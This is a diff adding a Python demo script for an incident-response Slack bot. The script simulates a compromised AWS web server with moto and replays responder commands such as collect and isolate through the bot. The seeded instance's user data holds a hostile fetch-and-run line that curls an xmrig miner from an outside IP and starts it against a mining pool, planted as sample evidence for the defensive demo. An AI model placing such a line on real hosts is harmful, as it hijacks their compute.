@@ -1,0 +1,191 @@
+"""irbot demo: a scripted incident on a simulated AWS account and Slack workspace.
+
+Everything runs in this process: moto simulates AWS, fakeredis holds the queue,
+an RQ SimpleWorker runs the jobs, and the real Bolt app receives requests signed
+exactly as Slack signs them. Nothing leaves the machine.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import os
+import re
+import sys
+import textwrap
+import time
+from urllib.parse import urlencode
+
+DEMO_TOKEN = "xoxb-000000000000-000000000000-irbotdemotokenxxxxxxxxxx"
+DEMO_SECRET = "demo-signing-secret-0123456789abcdef"
+CHANNEL = "C0DEMOINC1"
+PEOPLE = {"U0ALICE01": "alice", "U0BOB0002": "bob", "U0MALLORY": "mallory", "U0IRBOT": "irbot"}
+REGION = "us-east-1"
+BUCKET = "irbot-demo-evidence"
+
+
+def run(out=None) -> int:
+    out = out or sys.stdout
+    _isolate_environment()
+    # Imported here so `irbot --help` works without the demo extras installed.
+    import fakeredis
+    from moto import mock_aws
+    from rq import SimpleWorker
+
+    from bot.app import create_app
+    from bot.fake_slack import FakeSlack
+    from workers import logs
+    from workers.queues import SERIALIZER, queues
+    from workers.settings import load
+
+    slack = FakeSlack(DEMO_TOKEN).start()
+    os.environ.update(
+        {
+            "SLACK_BOT_TOKEN": DEMO_TOKEN,
+            "SLACK_SIGNING_SECRET": DEMO_SECRET,
+            "SLACK_API_URL": slack.api_url,
+            "IR_EVIDENCE_BUCKET": BUCKET,
+            "IR_RESPONDERS": "U0ALICE01,U0BOB0002",
+            "IR_APPROVERS": "U0BOB0002",
+            "REDIS_URL": "redis://fakeredis/0",
+        }
+    )
+    settings = load(os.environ, "serve")
+    logs.configure(settings.secrets(), level="ERROR")
+    try:
+        with mock_aws():
+            instance = _seed_account()
+            connection = fakeredis.FakeRedis()
+            app = create_app(settings, connection)
+            worker = SimpleWorker(queues(connection), connection=connection, serializer=SERIALIZER)
+            scene = Scene(app, worker, slack, out)
+            scene.title(
+                "irbot demo — a scripted incident on a simulated AWS account (moto) and Slack workspace.\n"
+                f"Channel #incident-web-1 ({CHANNEL}); responders alice and bob; mallory is not a responder."
+            )
+            scene.say("alice", "/ir help")
+            scene.say("mallory", f"/ir collect {instance}")
+            scene.say("alice", f"/ir colect {instance}")
+            scene.say("alice", f"/ir collect {instance}")
+            scene.say("alice", f"/ir isolate {instance}")
+            scene.verify_evidence()
+    finally:
+        slack.stop()
+    return 0
+
+
+def _isolate_environment() -> None:
+    """The demo must never touch a real account or workspace, whatever the shell has set."""
+    for name in list(os.environ):
+        if name.startswith(("AWS_", "SLACK_", "IR_")) or name == "REDIS_URL":
+            del os.environ[name]
+    os.environ.update(
+        {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing", "AWS_REGION": REGION, "AWS_DEFAULT_REGION": REGION}
+    )
+
+
+def _seed_account() -> str:
+    """A web server that looks compromised: SSH open to the world, a role, a miner in its user data."""
+    import boto3
+
+    ec2 = boto3.client("ec2", region_name=REGION)
+    iam = boto3.client("iam", region_name=REGION)
+    s3 = boto3.client("s3", region_name=REGION)
+    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
+    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24")["Subnet"]["SubnetId"]
+    group = ec2.create_security_group(GroupName="web-public", Description="web", VpcId=vpc)["GroupId"]
+    ec2.authorize_security_group_ingress(
+        GroupId=group,
+        IpPermissions=[{"IpProtocol": "tcp", "FromPort": p, "ToPort": p, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]} for p in (22, 443)],
+    )
+    iam.create_role(RoleName="web-app", AssumeRolePolicyDocument='{"Version":"2012-10-17","Statement":[]}')
+    profile = iam.create_instance_profile(InstanceProfileName="web-app")["InstanceProfile"]
+    iam.add_role_to_instance_profile(InstanceProfileName="web-app", RoleName="web-app")
+    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
+    instance = ec2.run_instances(
+        ImageId=image, InstanceType="c5.4xlarge", MinCount=1, MaxCount=1, SubnetId=subnet, SecurityGroupIds=[group],
+        IamInstanceProfile={"Arn": profile["Arn"]},
+        UserData="#!/bin/bash\ncurl -s http://198.51.100.23/xmrig -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o pool.example:3333 &\n",
+        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "web-1"}]}],
+    )["Instances"][0]["InstanceId"]
+    s3.create_bucket(Bucket=BUCKET, ObjectLockEnabledForBucket=True)
+    return instance
+
+
+class Scene:
+    """Plays commands through the Bolt app and prints the channel as a person would read it."""
+
+    def __init__(self, app, worker, slack, out):
+        self.app, self.worker, self.slack, self.out = app, worker, slack, out
+        self.seen = 0
+        self.clock = time.strftime("%H:%M")
+
+    def title(self, text: str) -> None:
+        print(text, file=self.out)
+        print("=" * 78, file=self.out)
+
+    def say(self, user: str, text: str) -> None:
+        from slack_bolt.request import BoltRequest
+
+        user_id = next(k for k, v in PEOPLE.items() if v == user)
+        self._line(user, text)
+        body = urlencode(
+            {"team_id": "T0DEMO", "channel_id": CHANNEL, "channel_name": "incident-web-1", "user_id": user_id,
+             "user_name": user, "command": "/ir", "text": text.removeprefix("/ir").strip(),
+             "response_url": self.slack.response_url(user), "trigger_id": "demo"}
+        )
+        timestamp = str(int(time.time()))
+        signature = "v0=" + hmac.new(DEMO_SECRET.encode(), f"v0:{timestamp}:{body}".encode(), hashlib.sha256).hexdigest()
+        response = self.app.dispatch(
+            BoltRequest(body=body, headers={"content-type": ["application/x-www-form-urlencoded"],
+                                            "x-slack-request-timestamp": [timestamp], "x-slack-signature": [signature]})
+        )
+        reply = _json(response.body)
+        if response.status != 200:
+            self._line("irbot", f"(HTTP {response.status})")
+        elif reply.get("text"):
+            private = reply.get("response_type") != "in_channel"
+            self._line("irbot" + (f" (only {user} sees this)" if private else ""), reply["text"])
+        self.worker.work(burst=True, logging_level="ERROR")
+        for message in self.slack.messages(CHANNEL)[self.seen:]:
+            self._line("irbot", _readable(message["text"]))
+        self.seen = len(self.slack.messages(CHANNEL))
+
+    def verify_evidence(self) -> None:
+        import boto3
+
+        s3 = boto3.client("s3", region_name=REGION)
+        objects = s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])
+        good = 0
+        for item in objects:
+            obj = s3.get_object(Bucket=BUCKET, Key=item["Key"])
+            if hashlib.sha256(obj["Body"].read()).hexdigest() == obj["Metadata"].get("sha256"):
+                good += 1
+        print("=" * 78, file=self.out)
+        print(f"Evidence bucket s3://{BUCKET}: {len(objects)} objects, {good} of them match their sha256 metadata.", file=self.out)
+
+    def _line(self, who: str, text: str) -> None:
+        text = _mentions(text)
+        first, *rest = text.splitlines() or [""]
+        width = 100
+        print(f"[{self.clock}] {who}: " + first, file=self.out)
+        for line in rest:
+            print(textwrap.indent(textwrap.shorten(line, width=width * 3, placeholder=" …") if len(line) > width * 3 else line, "        "), file=self.out)
+
+
+def _json(body: str) -> dict:
+    import json
+
+    try:
+        return json.loads(body) if body else {}
+    except ValueError:
+        return {"text": body}
+
+
+def _mentions(text: str) -> str:
+    return re.sub(r"<@(\w+)>", lambda m: "@" + PEOPLE.get(m.group(1), m.group(1)), text)
+
+
+def _readable(text: str) -> str:
+    """Presigned links are long; the transcript shows where they point, not the signature."""
+    return re.sub(r"https?://\S+?/(\S+?)\?\S+", lambda m: f"<link to {m.group(1).rsplit('/', 1)[-1]}>", text)
